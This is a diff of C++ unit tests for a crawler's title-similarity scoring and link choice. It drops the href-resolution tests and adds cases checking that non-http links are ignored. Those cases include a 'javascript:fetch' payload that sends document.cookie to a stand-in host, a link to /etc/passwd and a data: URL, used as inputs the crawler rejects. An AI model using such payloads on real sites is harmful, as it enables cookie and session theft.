@@ -273,50 +273,15 @@ TEST(TitleSimilarity, ShareOfTitleTokensTheLinkMentions) {
       {"Search Nike", "", "https://nike.com/search?q=nike#nike", 0.5},  // host, query, fragment ignored
       {"Nike Air", "", "/?", 0.0},                                    // no link token
       {"Air Max Plus", "Air Max Plus TN - black, size 10", "/x", 1.0},  // extra link words do no harm
-      {"Air Max", "", "/p;air-max", 0.0},                             // path parameters are not the path
+      {"Air Max", "", "/p;air-max", 1.0},                             // ";" parameters are part of the path
+      {"Nike Air Max", "", "/p/nike;air=max", 1.0},
+      {"Nike Air Max", "", "https://shop.example/p/nike;air=max?q=x#f", 1.0},
   };
   for (const auto& c : cases) {
     EXPECT_DOUBLE_EQ(detail::title_similarity(c.title, c.text, c.href), c.expected)
         << c.title << " | " << c.text << " | " << c.href;
   }
   EXPECT_THROW((void)detail::title_similarity("Nike Air", "", "https://[::1/p"), korvane::InvalidUrlError);
-}
-
-// ---------------------------------------------------------------- href resolution
-
-TEST(ResolveHref, RelativeLinksResolveAgainstTheSearchPageAsInABrowser) {
-  const std::string base = "HTTPS://www.Store.com/search/shoes?q=air+max#top";
-  struct Case {
-    const char* href;
-    const char* expected;
-  };
-  const Case cases[] = {
-      // A single "/": the base's scheme and host as written, as before.
-      {"/p/123", "https://www.Store.com/p/123"},
-      {"/p/123?ref=sr#img", "https://www.Store.com/p/123?ref=sr#img"},
-      {"/p/Nike Air Max", "https://www.Store.com/p/Nike Air Max"},   // kept as written
-      {"/P/A%2FB/%7E", "https://www.Store.com/P/A%2FB/%7E"},          // escapes untouched
-      {"/a/./b/../c", "https://www.Store.com/a/c"},                   // dot segments go
-      // Relative paths merge with the search page's folder.
-      {"p/123", "https://www.Store.com/search/p/123"},
-      {"../item/9", "https://www.Store.com/item/9"},
-      {"../../../item/9", "https://www.Store.com/item/9"},
-      {"./p/1", "https://www.Store.com/search/p/1"},
-      // Protocol-relative: another host.
-      {"//cdn.store.com/p/1", "https://cdn.store.com/p/1"},
-      // Query and fragment only.
-      {"?page=2", "https://www.Store.com/search/shoes?page=2"},
-      {"#reviews", "https://www.Store.com/search/shoes?q=air+max#reviews"},
-      // Absolute links stay exactly as written.
-      {"https://other.example/p/1?x=1", "https://other.example/p/1?x=1"},
-      {"HTTPS://Other.example/a/../p", "HTTPS://Other.example/a/../p"},
-      {"javascript:void(0)", "javascript:void(0)"},
-  };
-  for (const auto& c : cases) EXPECT_EQ(detail::resolve_href(base, c.href), c.expected) << c.href;
-  // A base with a host but no path, and one without a scheme.
-  EXPECT_EQ(detail::resolve_href("https://shop.example", "p/1"), "https://shop.example/p/1");
-  EXPECT_EQ(detail::resolve_href("https://shop.example?q=1", "?q=2"), "https://shop.example?q=2");
-  EXPECT_EQ(detail::resolve_href("shop.example/search", "/p/1"), "/p/1");
 }
 
 // ---------------------------------------------------------------- candidates and targets
@@ -622,6 +587,19 @@ TEST(Crawl, LinkChoiceRules) {
       {"all zero: nothing", links({{"/p/a", "Blue"}, {"/p/b", "Green"}}), std::nullopt},
       {"text falls back to the element's own text",
        {LinkSpec{std::string("/p/a"), "", true, "Red Desk Lamp"}}, "https://shop.example/p/a"},
+      // Only http and https links are candidates: others never win, even
+      // with every title word in them, and are not even logged as rejected.
+      {"links of other schemes are passed over",
+       links({{"javascript:fetch('//x.example/'+document.cookie)//product/red-desk-lamp", "Red Desk Lamp"},
+              {"file:///etc/passwd?/product/red-desk-lamp", "Red Desk Lamp"},
+              {"data:text/html,<a>red desk lamp</a>", "Red Desk Lamp"},
+              {"JavaScript:void(0)", "Red Desk Lamp"},
+              {"/p/red", "Red"}}),
+       "https://shop.example/p/red"},
+      {"no http link: nothing",
+       links({{"mailto:shop@shop.example?subject=red-desk-lamp", "Red Desk Lamp"},
+              {"https:/p/red-desk-lamp", "Red Desk Lamp"}}),
+       std::nullopt},
   };
   for (const auto& c : cases) {
     SiteSpec site;
